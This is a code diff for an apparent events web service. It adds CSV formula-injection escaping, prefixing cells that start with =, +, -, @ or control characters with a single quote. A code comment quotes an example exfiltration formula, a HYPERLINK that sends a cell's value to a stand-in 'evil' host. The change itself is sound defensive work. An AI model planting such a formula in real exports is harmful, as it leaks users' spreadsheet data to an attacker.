@@ -424,12 +424,26 @@ async def player_sheet(event_id: str, player_id: str, service: EventsDep) -> dic
     }
 
 
+#: A spreadsheet reads a cell that starts with one of these as a formula (or, for tab
+#: and line breaks, as the start of one): `=HYPERLINK("http://evil/?"&A1,"click")`.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_cell(value: Any) -> Any:
+    """Text that a spreadsheet would run as a formula gets a leading single quote (the
+    OWASP way: shown as typed, never evaluated). Numbers the server wrote stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def _csv(rows: list[dict[str, Any]], filename: str) -> Response:
+    """Every CSV export goes through here: each text cell through `csv_cell`."""
     out = io.StringIO()
     if rows:
         writer = csv.DictWriter(out, fieldnames=list(rows[0]))
         writer.writeheader()
-        writer.writerows(rows)
+        writer.writerows({key: csv_cell(value) for key, value in row.items()} for row in rows)
     return Response(
         out.getvalue(),
         media_type="text/csv",
